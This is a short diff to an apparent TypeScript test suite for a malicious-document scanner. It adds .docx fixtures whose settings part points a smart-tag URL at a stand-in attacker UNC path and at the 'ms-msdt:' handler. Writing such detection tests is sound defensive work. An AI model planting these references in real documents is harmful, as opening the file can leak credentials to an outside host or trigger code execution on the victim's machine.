@@ -102,6 +102,13 @@ const fetched: Hostile[] = [
       ),
     ),
   ),
+  ...['\\\\evil.example\\x', 'ms-msdt:/id'].map((address) =>
+    hostile(
+      `with a kind of words that is explained at ${address}`,
+      docxFile({ 'word/settings.xml': wordPart('settings', `<w:smartTagType w:name="place" w:url="${address}"/>`) }),
+      'leads to',
+    ),
+  ),
   ...[
     'Shell.Explorer.1',
     'htmlfile',
